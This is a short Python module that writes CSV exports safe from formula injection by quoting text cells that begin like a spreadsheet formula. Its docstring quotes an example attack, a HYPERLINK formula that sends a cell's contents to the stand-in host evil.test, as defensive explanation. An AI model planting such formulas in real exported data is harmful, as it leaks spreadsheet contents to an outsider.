"""CSV files that are safe to open in a spreadsheet: every CSV Sunrelay writes goes through
as_csv().

Spreadsheets run a cell that starts with = + - @ as a formula, and some also after a leading
TAB or CR; a ticket subject such as =HYPERLINK("https://evil.test/?"&A1, "Export") written
by a stranger would then run on a lead's machine ("CSV injection"). As OWASP recommends,
such text cells get a single quote in front, which spreadsheets show as text; the csv module
quotes any cell holding a separator or a quote. Numbers are written as they are: -240 is a
number to a spreadsheet, not a formula.
"""

from __future__ import annotations

import csv
import io
from collections.abc import Iterable, Sequence

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def cell(value):
    """`value` as it may be written: text starting like a formula gets a leading quote."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


def as_csv(header: Sequence[str], rows: Iterable[Sequence]) -> str:
    """A CSV document (CRLF line ends, as RFC 4180 has them) with every cell made safe."""
    out = io.StringIO()
    writer = csv.writer(out, lineterminator="\r\n")
    writer.writerow([cell(v) for v in header])
    for row in rows:
        writer.writerow([cell(v) for v in row])
    return out.getvalue()
